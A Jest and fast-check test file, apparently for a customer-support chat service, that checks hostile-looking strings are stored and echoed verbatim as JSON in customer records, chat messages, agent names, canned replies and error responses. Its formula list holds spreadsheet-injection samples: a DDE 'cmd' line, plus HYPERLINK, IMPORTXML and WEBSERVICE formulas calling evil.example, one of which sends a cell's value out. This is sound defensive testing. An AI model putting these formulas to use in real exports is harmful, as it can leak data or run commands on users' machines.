import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { Answer } from './support/http.js';
import { agentPassword } from './support/agents.js';
import { agent, type Chat } from './support/chat.js';
import { chatSuite } from './support/chat-suite.js';
import { payloads } from './support/payloads.js';

/** What a spreadsheet takes for a formula. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"x")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '"=1+1"',
  '\uff1d1+1',
];

const texts = [...payloads, ...formulas];

/** Nothing is escaped where it is stored: whoever shows it knows for what. Nothing takes it for more than JSON. */
describe('texts that mean something elsewhere', () => {
  const suite = chatSuite();

  const expectJson = ({ headers }: Answer) => {
    expect(headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toContain("default-src 'none'");
  };
  const ask = async (method: string, path: string, body?: object): Promise<Answer> => {
    const answer = await suite.kefu.call(method, path, { token: suite.admin, ...(body === undefined ? {} : { body }) });
    expectJson(answer);
    return answer;
  };

  it('are kept letter by letter in every field of a customer', async () => {
    for (const [index, text] of texts.entries()) {
      const tag = [...text].slice(0, 64).join('').trim();
      const person = {
        ...{ name: text, location: text, notes: text, tags: [tag], customFields: { key: text, nested: [text] } },
        ...{ primaryChannel: 'WEB', lineId: `line-${index}-` },
      };
      const created = await ask('POST', '/customers', person);
      expect([text, created.status]).toEqual([text, 201]);
      const read = await ask('GET', `/customers/${created.data.id as string}`);
      expect(read.data).toMatchObject(person);
      const found = await ask('GET', `/customers?q=${person.lineId}`);
      expect(found.data.content[0]).toMatchObject(person);
    }
  });

  it('are said and heard letter by letter, over connections and REST', async () => {
    const [visitor, desk] = [await suite.newCustomer(), await suite.newAgent()];
    let conversationId = '';
    const heard = (chat: Chat, content: string) => chat.next((frame) => frame.content === content);
    for (const text of texts) {
      const metadata = { text };
      conversationId = (await visitor.chat.post(text, { metadata })).conversationId as string;
      expect((await heard(desk.chat, text)).metadata).toEqual(metadata);
    }
    const { data } = await ask('GET', `/conversations/${conversationId}/messages?afterSeq=0&limit=200`);
    expect(data.map(({ content }: { content: string }) => content)).toEqual(texts);
  });

  it('are kept letter by letter in the names of agents and in canned replies', async () => {
    const { id } = await agent(suite.kefu);
    for (const [index, text] of texts.entries()) {
      expect((await ask('PUT', `/agents/${id}`, { name: text })).data.name).toBe(text);
      const reply = await ask('POST', '/canned-replies', { shortcut: `k${index}`, content: text });
      expect([reply.status, reply.data.content]).toEqual([201, text]);
    }
    const { data } = await ask('GET', '/colleagues');
    expect(data).toContainEqual(expect.objectContaining({ id, name: texts.at(-1) }));
  });

  describe('made at random', () => {
    const marks = fc.constantFrom(
      '👩\u200d👩\u200d👧',
      '🏳️\u200d🌈',
      '\u200f\u202eשלום',
      'e\u0301',
      '😀',
      '𠮷',
      '\ufeff',
      '\u0001',
    );
    const piece = fc.oneof({ weight: 3, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }) }, marks);
    const anyText = fc.array(piece, { minLength: 1, maxLength: 3 }).map((pieces) => pieces.join(''));
    /** Neither blank nor with what no text may have. */
    const sound = anyText.filter((text) => text.trim() !== '' && !text.includes('\0'));
    const broken = fc
      .tuple(anyText, fc.constantFrom('\0', '\ud800', '\udfff', '\udc00\ud800'), anyText)
      .map((parts) => parts.join(''));

    it('are said letter by letter, or refused', async () => {
      const { chat, token } = await suite.newCustomer();
      let conversationId = '';
      const write = (body: object) => ask('POST', `/conversations/${conversationId}/messages`, body);
      await fc.assert(
        fc.asyncProperty(
          fc.array(sound, { minLength: 50, maxLength: 50 }),
          fc.array(broken, { minLength: 5, maxLength: 5 }),
          async (some, bad) => {
            const acks = await Promise.all(some.map((text) => chat.post(text, { metadata: { text } })));
            conversationId = acks[0].conversationId as string;
            const other = await suite.connect(token);
            for (const text of bad) {
              other.send({ content: text });
              expect((await other.error()).code).toBe('VALIDATION_FAILED');
              expect((await write({ content: text })).status).toBe(400);
              expect((await write({ content: 'a', metadata: { text } })).status).toBe(400);
            }
            await other.close();
            const { data } = await ask('GET', `/conversations/${conversationId}/messages?limit=50`);
            expect(data.map(({ content }: { content: string }) => content)).toEqual(some);
            expect(data.map(({ metadata }: { metadata: object }) => metadata)).toEqual(some.map((text) => ({ text })));
          },
        ),
        { numRuns: 10, endOnFailure: true },
      );
    });

    it('are kept letter by letter in the names of agents and in canned replies, or refused', async () => {
      const { id } = await agent(suite.kefu);
      const { data } = await ask('POST', '/canned-replies', { shortcut: 'random', content: '…' });
      const reply = `/canned-replies/${data.id as string}`;
      const listed = async () => [
        (await ask('GET', `/agents/${id}`)).data.name as string,
        (await ask('GET', '/canned-replies')).data.find((known: { id: string }) => known.id === data.id)
          .content as string,
      ];
      await fc.assert(
        fc.asyncProperty(sound, broken, async (text, bad) => {
          for (const [path, field] of [
            [`/agents/${id}`, 'name'],
            [reply, 'content'],
          ] as const) {
            expect((await ask('PUT', path, { [field]: text })).data[field]).toBe(text);
            expect((await ask('PUT', path, { [field]: bad })).status).toBe(400);
          }
          expect(await listed()).toEqual([text, text]);
        }),
        { numRuns: 250, endOnFailure: true },
      );
    });
  });

  it('come back in errors as JSON, where they come back at all', async () => {
    for (const text of texts) {
      const sent = encodeURIComponent(text.toWellFormed());
      expectJson(await suite.kefu.call('GET', `/customers?${sent}=1`, { token: suite.admin }));
      expectJson(await suite.kefu.callRoot('GET', `/${sent}`));
      expectJson(
        await suite.kefu.call('POST', '/auth/login', { body: { email: text, password: agentPassword, [text]: 1 } }),
      );
    }
  });
});
